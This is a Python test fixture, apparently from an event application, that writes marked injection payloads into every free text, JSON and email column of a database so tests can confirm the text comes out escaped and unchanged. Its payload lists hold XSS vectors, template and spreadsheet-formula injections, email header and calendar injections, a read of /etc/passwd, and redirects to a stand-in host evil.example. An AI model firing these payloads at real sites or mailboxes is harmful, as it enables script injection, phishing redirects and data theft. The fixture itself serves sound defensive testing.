"""Hostile words in every text that the database holds, past all forms, and how to know them again.

Each column gets words of its own that end in a mark. Wherever the mark comes out again, in a page, mail or file, all
of the words must stand before it as they were written: then nothing took them for anything but words.
"""

import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field

from sqlalchemy import JSON, CheckConstraint, Column, String, Table, Text, update

from eventapp.db import Base, db
from eventapp.sealing import SealedText

#: Together they leave every place in which a text of ours could stand: attribute, element, script, style, comment,
#: template, Markdown, spreadsheet, calendar, header, address, line of another direction.
PAYLOADS = (
    "=1+1\"'><img src=x onerror=pwn()>",
    "</script><script>pwn()</script>",
    "</title></textarea></style><svg/onload=pwn()>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "[x](javascript:pwn()) <javascript:pwn()> ![x](x onerror=pwn())",
    "<a href=javascript:pwn()>x</a>",
    '" autofocus onfocus=pwn() x="',
    "--><details open ontoggle=pwn()>",
    "{{ 7*7 }}{% print(7*7) %}${7*7}#{7*7}\\u003cscript\\u003epwn()",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwn()&gt;'>",
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:pwn\r\nEND:VEVENT",
    "x\r\nBcc: eve@evil.example\r\nContent-Type: text/html\r\n\r\n<script>pwn()</script>",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    '=HYPERLINK("//evil.example";"x")',
    "\u202egnp.exe\u2066\u2069\u200f<b>",
    "javascript:pwn()//",
    "data:text/html,<script>parent.pwn()</script>",
    "<svg><a xlink:href=javascript:pwn()><animate attributeName=href values=javascript:pwn()></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=pwn()>'>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<template><img src=x onerror=pwn()></template><xmp><img src=x onerror=pwn()></xmp>",
    "&lt;img src=x onerror=pwn()&gt;&#60;svg onload=pwn()&#62;",
    "'-pwn()-'\\'-pwn()//`${pwn()}`",
    "x' style='background:url(//evil.example/x)' onmouseover='pwn()",
    '<object data="//evil.example"></object><embed src="//evil.example"><video src=x onerror=pwn()>',
    '#link("javascript:pwn()")[x] #read("/etc/passwd") $x$ \\ *x* @x <x>',
    "[x]: //evil.example\n[x] <https://evil.example/?\"onclick=pwn()> [y](//evil.example 'onclick=pwn()')",
    "=?utf-8?q?x=0d=0aBcc:_eve=40evil.example?= =?utf-8?b?PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==?=",
    ";TZID=pwn:x\\n\\nX-PWN:1\\,\\;",
)
#: Names of mailboxes that the forms take, though they are no less hostile.
MAILBOXES = (
    "=cmd|'/c+calc'!a1",
    "{{7*7}}${7*7}",
    "'onfocus='pwn`x`",
    "+1-1+cmd|x",
    "%0d%0abcc%3ax",
    "a&lt&gt&quot",
    "-2+3*x#/./x",
)
#: What the application itself looks for, compares or decides by; none of it is typed by anybody.
NOT_FREE = frozenset(
    (
        "action",
        "code_hash",
        "digest",
        "entry_uuid",
        "facts",
        "form_token",
        "language",
        "last_error",
        "mailbox",
        "name_key",
        "password_hash",
        "picture_name",
        "recipient",
        "reverses",
        "second_language",
        "secret",
        "session_stamp",
        "sha256",
        "short_code",
        "subject_reference",
        "subject_type",
        "token",
        "trouble",
    )
)
#: Lists in which words and what people wrote stand together.
MIXED = {"access", "choice_labels", "values", "wording"}
#: Texts in which marks of Markdown mean something to the reader: the words come out, the marks do not.
MARKDOWN = frozenset(
    (
        "event_text.agenda",
        "event_text.body",
        "event_text.summary",
        "message_text.body",
        "organization.accessibility_text",
        "organization.privacy_text",
    )
)
MARK = re.compile(r"q\d{3}z")
_LONGEST_TEXT, _LONGEST_LINE, _MARK_CHARS = 2000, 200, 5
_CODE = re.compile(r"[a-z0-9_-]*")
_BREAKS = re.compile("[\\s\\-\u00ad\u200b]")
_ORDERS = re.compile("[\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@dataclass(kw_only=True)
class Poisoned:
    """What was written: the words by their mark, the column by its mark, and the columns that had no row."""

    words: dict[str, str] = field(default_factory=dict)
    columns: dict[str, str] = field(default_factory=dict)
    without_rows: set[str] = field(default_factory=set)

    def note(self, column: str, words: str) -> str:
        """Remember the words of a column, with their mark at the end."""
        mark = f"q{len(self.words):03}z"
        self.words[mark], self.columns[mark] = words + mark, column
        return words + mark

    def seen_in(self, texts: Iterable[str]) -> set[str]:
        """The columns whose words came out."""
        return {self.columns[mark] for text in texts for mark in MARK.findall(text) if mark in self.columns}

    def changed_in(self, texts: Iterable[str], *, on_paper: bool = False) -> list[str]:
        """Where words came out otherwise than they were written; white space and, on paper, hyphens do not count."""
        same = _without_spaces if on_paper else _plain
        return [
            f"{self.columns[mark]}: {text!r}"
            for text in texts
            for mark in MARK.findall(text)
            if mark in self.columns
            and self.columns[mark] not in MARKDOWN
            and not all(same(line) in same(text) for line in self.words[mark].splitlines())
        ]


def poison(*, turn: int = 0) -> Poisoned:
    """Write the hostile words into every free text; each turn begins each column with the next of them."""
    done = Poisoned()
    for table in Base.metadata.sorted_tables:
        checked = " ".join(str(rule.sqltext) for rule in table.constraints if isinstance(rule, CheckConstraint))
        has_rows = db.session.execute(db.select(db.func.count()).select_from(table)).scalar_one() > 0
        free = [column for column in table.columns if _is_free(column, checked=checked)]
        if free and not has_rows:
            done.without_rows.update(str(column) for column in free)
        elif free:
            values = {column: done.note(str(column), _words(column, len(done.words) + turn)) for column in free}
            db.session.execute(update(table).values(values))
        for column in table.columns:
            if isinstance(column.type, JSON) and column.name in MIXED:
                _poison_each(table, column, done, turn=turn)
            elif column.name in ("email", "contact_email"):
                _poison_addresses(table, column, turn=turn)
    db.session.commit()
    return done


def _poison_each(table: Table, column: Column[object], done: Poisoned, *, turn: int) -> None:
    """Write into what people wrote of a list, and leave alone what the application writes besides."""
    words = done.note(str(column), _words(column, len(done.words) + turn))
    (key,) = table.primary_key.columns
    for row_id, value in db.session.execute(db.select(key, column)).all():
        db.session.execute(update(table).where(key == row_id).values({column: _poisoned(value, words)}))


def _poison_addresses(table: Table, column: Column[object], *, turn: int) -> None:
    """Write into the part before the @, each row with another one."""
    (key,) = table.primary_key.columns
    for row_id, value in db.session.execute(db.select(key, column)).all():
        if value:
            address = f"{MAILBOXES[(row_id + turn) % len(MAILBOXES)]}{row_id}@example.org"
            db.session.execute(update(table).where(key == row_id).values({column: address}))


def _is_free(column: Column[object], *, checked: str) -> bool:
    is_text = type(column.type) in (String, Text, SealedText)
    is_fixed = column.primary_key or column.foreign_keys or column.unique or re.search(rf"\b{column.name}\b", checked)
    return is_text and not is_fixed and column.name not in NOT_FREE and "email" not in column.name


def _words(column: Column[object], first: int) -> str:
    """As many of the words as the column takes beside a mark, beginning with the one of this number."""
    at = first % len(PAYLOADS)
    longest = _LONGEST_TEXT if type(column.type) in (Text, JSON) else _LONGEST_LINE
    length = min(getattr(column.type, "length", None) or longest, longest)
    return "".join(PAYLOADS[at:] + PAYLOADS[:at])[: length - _MARK_CHARS]


def _poisoned(value: object, words: str) -> object:
    if isinstance(value, dict):
        return {key: _poisoned(part, words) for key, part in value.items()}
    if isinstance(value, list):
        return [_poisoned(part, words) for part in value]
    is_code = not isinstance(value, str) or (value and _CODE.fullmatch(value))
    return value if is_code else words


def _plain(text: str) -> str:
    """On one line, without the orders of direction, which may be left out, and as the header of a mail writes it."""
    return " ".join(_ORDERS.sub("", text).replace("=?", "= ?").split())


def _without_spaces(text: str) -> str:
    return _BREAKS.sub("", _plain(text))


def strings_in(value: object) -> Iterator[str]:
    """Every text in what JSON holds."""
    if isinstance(value, str):
        yield value
    for part in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from strings_in(part)
